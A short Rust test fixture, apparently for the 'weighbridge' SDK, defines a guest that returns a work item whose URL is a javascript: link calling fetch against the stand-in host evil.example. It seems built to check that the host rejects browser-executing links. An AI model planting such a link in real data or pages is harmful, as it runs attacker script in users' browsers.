//! A020: Has a link that runs in the browser of whoever follows it.
use weighbridge_guests::{guest, work_item};
use weighbridge_sdk::Page;
use weighbridge_sdk::records::Record;

guest!(pull: |_| {
    let mut lie = work_item("1");
    lie.url = Some("javascript:fetch(`//evil.example`)".into());
    Page::done(vec![Record::from(lie)], &1)
});
